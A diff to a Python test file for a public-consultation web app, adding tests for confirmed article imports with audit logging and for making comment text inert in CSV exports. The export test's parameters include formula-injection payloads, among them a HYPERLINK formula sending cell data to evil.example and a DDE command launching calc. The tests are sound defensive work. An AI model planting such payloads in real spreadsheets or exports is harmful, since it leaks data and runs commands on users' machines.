@@ -9,6 +9,7 @@ import pytest
 
 from opengov.consultations import services
 from opengov.consultations.models import Comment, Consultation, Decision, Kind
+from opengov.core.models import AuditEvent
 
 from .conftest import after_period
 
@@ -188,8 +189,16 @@ def test_import_page_previews_then_imports(start, client_for, make_consultation,
     preview = client.post(url, {"text": text}).content.decode()
     assert "第一條" in preview and "草案標題" in preview  # the unplaced line is shown
     assert draft.articles.count() == 0
-    client.post(url, {"draft": text, "confirm": "1"})
+    assert 'name="accept_unplaced" value="1"' in preview
+    # Without confirming that the unplaced line is left out, nothing is imported.
+    unconfirmed = client.post(url, {"draft": text, "confirm": "1"})
+    assert unconfirmed.status_code == 422 and draft.articles.count() == 0
+    page = unconfirmed.content.decode()
+    assert 'id="import-refused"' in page and "草案標題" in page
+    client.post(url, {"draft": text, "confirm": "1", "accept_unplaced": "1"})
     assert list(draft.articles.values_list("label", flat=True)) == ["第一條", "第2條"]
+    event = AuditEvent.objects.filter(verb="consultation.articles_imported").latest("id")
+    assert event.changes == {"articles": 2, "unplaced_lines": 1, "unplaced_lines_accepted": 1}
     refused = client.post(url, {"text": "沒有條文"}).content.decode()
     assert 'aria-invalid="true"' in refused
     big5 = io.BytesIO("第一條 測試。\n".encode("big5"))
@@ -297,3 +306,21 @@ def test_article_counts_follow_new_comments_and_edits(
     assert "1 則意見 · 贊成 0 · 反對 1" in client.get(url).content.decode()
     english = client.get(url, HTTP_ACCEPT_LANGUAGE="en").content.decode()
     assert "贊成 0 · 反對 1" in english or "support 0 · oppose 1" in english
+
+
+@pytest.mark.parametrize(
+    "body",
+    ['=HYPERLINK("http://evil.example/?"&A1,"看")', "+cmd|' /C calc'!A0", "@SUM(1+1)", "-2+3"],
+)
+def test_csv_for_spreadsheets_makes_formulas_inert(client, open_consultation, citizen, body):
+    services.comment_create(
+        actor=citizen, consultation=open_consultation, body=body, stance="support"
+    )
+    response = client.get(f"/consultations/{open_consultation.public_id}/comments.csv")
+    raw = b"".join(response.streaming_content)
+    assert raw.startswith(b"\xef\xbb\xbf")
+    rows = list(csv.DictReader(io.StringIO(raw.decode("utf-8-sig"), newline="")))
+    assert rows[0]["body"] == "'" + body
+    # The JSON document is not for spreadsheets: it keeps the text exactly.
+    doc = client.get(f"/consultations/{open_consultation.public_id}/consultation.json").json()
+    assert doc["comments"][0]["body"] == body
